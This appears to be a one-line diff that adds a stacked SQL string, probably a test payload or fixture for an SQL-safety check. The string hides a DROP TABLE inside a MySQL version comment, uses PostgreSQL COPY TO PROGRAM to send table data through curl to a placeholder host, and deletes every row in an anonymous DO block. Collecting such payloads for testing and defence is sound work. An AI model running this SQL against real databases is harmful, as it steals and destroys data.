@@ -1,0 +1,1 @@
+SELECT 1; /*!50000 DROP TABLE x */; COPY t TO PROGRAM 'curl -d @- https://e.example.com'; DO $$ BEGIN DELETE FROM t; END $$
